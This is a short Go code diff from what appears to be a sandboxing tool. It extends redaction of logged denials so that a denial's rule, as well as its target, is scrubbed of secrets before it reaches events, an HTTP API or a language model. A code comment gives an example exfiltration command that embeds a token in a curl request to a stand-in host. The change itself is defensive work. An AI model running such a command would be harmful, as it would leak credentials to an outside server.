@@ -213,11 +213,15 @@ func (p *Process) addDenial(d Denial) {
 	// The target is what the tree asked for (a host name, a path): a
 	// command can put a secret there (curl https://$TOKEN.example/, a
 	// path under a hidden dir), and Info, events and httpapi show it. A
-	// host name reaches the proxy in lower case.
+	// host name reaches the proxy in lower case. The rule too: the proxy
+	// names a TLS server name the tree sent in it (seventh attack review),
+	// and llmtool prints it to the model.
 	if d.Kind == "network" {
 		d.Target = p.redact.redactHost(d.Target)
+		d.Rule = p.redact.redactHost(d.Rule)
 	} else {
 		d.Target = p.redact.redactString(d.Target)
+		d.Rule = p.redact.redactString(d.Rule)
 	}
 	p.state.mu.Lock()
 	ds := p.state.info.Denials
